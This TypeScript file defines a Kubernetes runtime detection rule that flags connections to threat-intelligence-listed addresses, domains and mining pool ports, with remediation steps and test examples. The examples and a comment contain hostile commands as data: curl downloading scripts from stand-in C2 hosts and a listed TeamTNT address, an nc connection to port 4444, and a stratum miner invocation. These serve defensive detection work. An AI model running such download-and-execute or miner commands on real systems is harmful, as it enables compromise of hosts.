import { type ThreatIntelHit, ThreatIntelListOrigin } from '../../../intel/threatIntelMatch';
import { type NodeEvent } from '../../../node/nodeEvent';
import { falcoAlertEvent, processConnectEvent, processExecEvent, tcpConnectEvent } from '../../../node/exampleNodeEvents';
import { type DetectionContext } from '../../detectionContext';
import { type AlertEntity, EntityType } from '../../entities';
import { commandLineOf, nodeDedupKey, nodeEventEntities } from '../../nodeEntities';
import { connectionOf, hostNamesIn, isNonPublicAddress, listedAddress, listedDomainIn, listedPort } from '../../predicates/nodeNetwork';
import { commandLineText, isExec, isInContainer, isSystemWorkload } from '../../predicates/nodeProcesses';
import { defineNodeRule, Intent, Severity } from '../../rule';

type IndicatorKind = 'threat-intel address' | 'threat-intel domain' | 'mining pool port';

/** The bundled lists' names in alerts (a custom set or a feed is named by its own name, and the kind says which). */
const BUNDLED_ADDRESS_LIST = 'threatIntelAddresses';
const BUNDLED_DOMAIN_LIST = 'threatIntelDomains';
const BUNDLED_PORT_LIST = 'miningPoolPorts';

interface ThreatIndicator {
  kind: IndicatorKind;
  /** The custom set's name, the feed's, or the bundled list's. */
  list: string;
  listKind: 'custom' | 'feed' | 'bundled';
  /** The list entry that matched (as written in the list: an address, a range, a host name or `*.<domain>`). */
  entry: string;
  /** What the event showed: the address and port, or the host name in the command line. */
  seen: string;
  address?: string;
  port?: number;
}

/** IPv4 addresses in a command line (`curl http://198.51.100.7/x.sh`, `nc 198.51.100.7 4444`). */
const IPV4_IN_TEXT = /\b(\d{1,3}(?:\.\d{1,3}){3})\b/g;

/** A hit of the subscription's custom sets or of the configured feeds, as an indicator. */
function customIndicatorOf(hit: ThreatIntelHit | undefined, kind: IndicatorKind, seen: string, address?: string): ThreatIndicator | undefined {
  if (hit === undefined) return undefined;
  const listKind = hit.origin === ThreatIntelListOrigin.feed ? 'feed' : 'custom';
  return { kind, list: hit.list, listKind, entry: hit.entry, seen, ...(address === undefined ? {} : { address }) };
}

/**
 * A connection to a listed threat address (any process), or from a container to a public address on a mining
 * pool port; the commands that name a listed address or threat domain (connect events carry no names). The
 * subscription's custom sets are consulted first, then the configured `ip` and `domain` feeds (both through
 * `context.customThreatIntel`), then the bundled lists. A command naming a mining pool of the bundled list is
 * crypto-mining-process's (one alert per miner, not two). Platform pods are not judged.
 */
function threatIndicatorOf(event: NodeEvent, context: DetectionContext): ThreatIndicator | undefined {
  if (isSystemWorkload(event, context)) return undefined;
  const connection = connectionOf(event);
  if (connection !== undefined) {
    const destination = `${connection.daddr}${connection.dport === undefined ? '' : `:${connection.dport}`}`;
    const where = { seen: destination, address: connection.daddr, ...(connection.dport === undefined ? {} : { port: connection.dport }) };
    const custom = customIndicatorOf(context.customThreatIntel.matchAddress(connection.daddr), 'threat-intel address', destination);
    if (custom !== undefined) return { ...custom, ...where };
    const address = listedAddress(connection.daddr, context.lists.threatIntelAddresses);
    if (address !== undefined) return { kind: 'threat-intel address', list: BUNDLED_ADDRESS_LIST, listKind: 'bundled', entry: address, ...where };
    if (isInContainer(event) && !isNonPublicAddress(connection.daddr)) {
      const port = listedPort(connection, context.lists.miningPoolPorts);
      if (port !== undefined) return { kind: 'mining pool port', list: BUNDLED_PORT_LIST, listKind: 'bundled', entry: port, ...where };
    }
    return undefined;
  }
  if (!isExec(event)) return undefined;
  const text = commandLineText(event.process);
  const addresses = [...text.matchAll(IPV4_IN_TEXT)].map((match) => match[1] ?? '');
  // Most subscriptions have no sets and no feeds: the command line is then not searched for host names twice.
  if (context.customThreatIntel.listNames.length > 0) {
    for (const seen of addresses) {
      const custom = customIndicatorOf(context.customThreatIntel.matchAddress(seen), 'threat-intel address', seen, seen);
      if (custom !== undefined) return custom;
    }
    for (const host of hostNamesIn(text)) {
      const custom = customIndicatorOf(context.customThreatIntel.matchDomain(host), 'threat-intel domain', host);
      if (custom !== undefined) return custom;
    }
  }
  for (const seen of addresses) {
    const entry = listedAddress(seen, context.lists.threatIntelAddresses);
    if (entry !== undefined) return { kind: 'threat-intel address', list: BUNDLED_ADDRESS_LIST, listKind: 'bundled', entry, seen, address: seen };
  }
  const threat = listedDomainIn(text, context.lists.threatIntelDomains);
  return threat === undefined ? undefined : { kind: 'threat-intel domain', list: BUNDLED_DOMAIN_LIST, listKind: 'bundled', entry: threat.entry, seen: threat.host };
}

const python = { binary: '/usr/local/bin/python3.12', arguments: '-m gunicorn app:app' };

export const threatIntelConnection = defineNodeRule({
  id: 'threat-intel-connection',
  alertType: 'K8S.NODE_ThreatIntelConnection',
  displayName: 'Connection to a known malicious address or mining pool',
  description:
    'A process connected to an address on a threat-intelligence list, or a command line named such an address or a ' +
    'listed domain (connection events carry addresses only, so domains are seen in the commands that use them). The ' +
    "lists, in the order consulted: the subscription's custom threat-intel sets (PUT " +
    '/api/subscriptions/{id}/threatIntelSets/{name}: addresses, ranges, host names and `*.<domain>`), the configured ' +
    '`ip` and `domain` feeds (THREAT_INTEL_FEEDS), then the bundled lists (command-and-control servers, malware ' +
    'hosts, scanners); the alert names the list and the entry that matched. A miner naming a bundled pool is the ' +
    "mining rule's. At lower severity: a container connecting to a public address on a port mining pools listen on " +
    '(stratum), when the port is not also an ordinary web or mail port. The bundled lists are data (shared/intel), ' +
    'refreshed with Argus and replaceable through configuration.',
  // High for a listed address or domain; Medium for a mining pool port alone (severityFor).
  severity: Severity.High,
  severityFor: (event, context) => (threatIndicatorOf(event, context)?.kind === 'mining pool port' ? Severity.Medium : Severity.High),
  intent: Intent.CommandAndControl,
  techniques: ['T1071', 'T1105', 'T1496'],
  remediation: [
    'Block the address or domain at the egress (Azure Firewall, network policy) and find every workload that contacted it.',
    'Isolate the pod or node and find what made the connection (the process, its parent, how it got there); remove the workload and rebuild it from a clean image.',
    'Restrict egress from pods to the destinations they need (a default-deny egress network policy).',
    'If the entry was listed by mistake, remove it from the custom set (the change takes effect within the settings cache period) or the feed; for the bundled lists, add a suppression rule naming the address.',
  ],
  falsePositives: [
    'Shared hosting or CDN addresses that appear on threat lists for a short time.',
    'Services that legitimately listen on a port used by mining pools (a public API on port 3333 or 5555).',
    "A custom set entry that is too broad (a range or `*.<domain>` that also covers a partner's or a vendor's service).",
  ],
  references: [
    'https://attack.mitre.org/techniques/T1071/',
    'https://attack.mitre.org/techniques/T1496/',
    'https://github.com/stamparm/maltrail',
    'https://learn.microsoft.com/azure/aks/network-policy-best-practices',
  ],
  equivalents: {
    defender: ['K8S.NODE_SuspectDownload'],
    falco: ['Outbound Connection to C2 Servers', 'Detect outbound connections to common miner pool ports'],
    guardDuty: [
      'Backdoor:Runtime/C&CActivity.B',
      'Backdoor:Runtime/C&CActivity.B!DNS',
      'CryptoCurrency:Runtime/BitcoinTool.B',
      'CryptoCurrency:Runtime/BitcoinTool.B!DNS',
      'Impact:Runtime/MaliciousDomainRequest.Reputation',
    ],
    elastic: [],
  },
  eventTypes: ['process_kprobe', 'process_connect', 'process_exec'],
  readsCustomThreatIntel: true,
  match: (event, context) => threatIndicatorOf(event, context) !== undefined,
  entities: (event, context) => {
    const indicator = threatIndicatorOf(event, context);
    const falcoAddress = event.falco?.outputFields['fd.sip'];
    const address = indicator?.address ?? (typeof falcoAddress === 'string' ? falcoAddress : undefined);
    const remote: AlertEntity[] = address === undefined ? [] : [{ type: EntityType.ip, address, ...(indicator?.port === undefined ? {} : { port: indicator.port }) }];
    return [...nodeEventEntities(event), ...remote];
  },
  details: (event, context) => {
    const indicator = threatIndicatorOf(event, context);
    return {
      ...(indicator === undefined
        ? {}
        : { indicator: indicator.kind, threatIntelList: indicator.list, threatIntelListKind: indicator.listKind, listEntry: indicator.entry, seen: indicator.seen }),
      commandLine: commandLineOf(event.process),
      ...(event.falco === undefined ? {} : { falcoRule: event.falco.rule }),
    };
  },
  dedupKey: (event, context) => nodeDedupKey(event, threatIndicatorOf(event, context)?.entry ?? event.falco?.rule ?? ''),
  examples: [
    {
      name: 'an application container connects to a listed command-and-control address',
      expect: 'alert',
      event: tcpConnectEvent({ process: { binary: '/tmp/.x/agent', arguments: '' }, daddr: '203.0.113.50', dport: 443 }),
      lists: { threatIntelAddresses: ['203.0.113.50'] },
    },
    {
      name: 'a container connects to a public address on a stratum port',
      expect: 'alert',
      event: tcpConnectEvent({ process: { binary: '/usr/local/bin/node', arguments: 'server.js' }, daddr: '198.51.100.23', dport: 3333 }),
      lists: { miningPoolPorts: ['3333'] },
    },
    {
      name: 'curl fetches a script from a listed malware domain',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/curl', arguments: '-fsSL http://dl.c2-staging.example.net/k.sh', parent: { binary: '/bin/sh' } }),
      lists: { threatIntelDomains: ['*.c2-staging.example.net'] },
    },
    {
      name: 'a shell fetches a script from a TeamTNT address of the bundled list',
      expect: 'alert',
      event: processExecEvent({ binary: '/usr/bin/curl', arguments: '-s http://45.9.148.35/chimaera/sh/setup.sh', parent: { binary: '/bin/sh' } }),
    },
    {
      name: 'curl fetches from the parent domain of a listed wildcard entry',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/bin/curl', arguments: '-fsSL https://www.example.net/install.sh', parent: { binary: '/bin/sh' } }),
      lists: { threatIntelDomains: ['*.c2-staging.example.net'] },
    },
    {
      name: 'a command names a listed mining pool: the mining rule alerts, not this one',
      expect: 'none',
      event: processExecEvent({ binary: '/tmp/.cache/sys', arguments: '-o stratum+tcp://xmr.pool.example.org:443 -u 4AbC...', parent: { binary: '/bin/sh' } }),
      lists: { miningPoolDomains: ['pool.example.org'] },
    },
    {
      name: 'a book-era process_connect to a listed address from the node',
      expect: 'alert',
      event: processConnectEvent({ process: { binary: '/usr/bin/perl', arguments: '/var/tmp/.x.pl', pod: null }, destinationIp: '203.0.113.50', destinationPort: 6667 }),
      lists: { threatIntelAddresses: ['203.0.113.50'] },
    },
    {
      name: 'Falco reports a connection to a C2 server',
      expect: 'alert',
      event: falcoAlertEvent({
        rule: 'Outbound Connection to C2 Servers',
        priority: 'Warning',
        outputFields: { 'proc.name': 'agent', 'proc.exepath': '/tmp/.x/agent', 'proc.cmdline': 'agent', 'fd.sip': '203.0.113.50' },
        tags: ['maturity_sandbox', 'host', 'container', 'network', 'mitre_command_and_control', 'TA0011'],
      }),
    },
    {
      name: 'an application calls a public HTTPS API',
      expect: 'none',
      event: tcpConnectEvent({ process: python, daddr: '20.42.65.92', dport: 443 }),
    },
    {
      name: 'a container calls an in-cluster service on a stratum port',
      expect: 'none',
      event: tcpConnectEvent({ process: python, daddr: '10.0.12.7', dport: 3333 }),
      lists: { miningPoolPorts: ['3333'] },
    },
    {
      name: 'a container calls a public web server on port 8080, also on the miner port list',
      expect: 'none',
      event: tcpConnectEvent({ process: python, daddr: '198.51.100.23', dport: 8080 }),
      lists: { miningPoolPorts: ['8080'] },
    },
    {
      name: 'pip downloads a package',
      expect: 'none',
      event: processExecEvent({ binary: '/usr/local/bin/pip', arguments: 'install --no-cache-dir requests==2.32.3 -i https://pypi.org/simple', parent: { binary: '/bin/sh' } }),
    },
  ],
});
